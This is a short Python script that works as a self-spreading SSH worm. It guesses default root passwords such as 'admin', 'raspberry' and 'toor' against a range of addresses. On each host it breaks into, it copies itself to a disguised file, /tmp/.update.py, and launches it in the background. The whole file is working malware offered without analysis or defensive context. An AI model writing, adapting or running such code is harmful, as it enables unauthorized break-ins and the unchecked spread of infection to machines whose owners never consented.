import paramiko

PASSWORDS = ["admin", "root", "123456", "raspberry", "toor"]


def spread(host):
    for word in PASSWORDS:
        client = paramiko.SSHClient()
        client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        try:
            client.connect(host, username="root", password=word, timeout=3)
        except Exception:
            continue
        sftp = client.open_sftp()
        sftp.put(__file__, "/tmp/.update.py")
        client.exec_command("nohup python3 /tmp/.update.py &")
        return


for last in range(1, 255):
    spread("192.0.2.%d" % last)
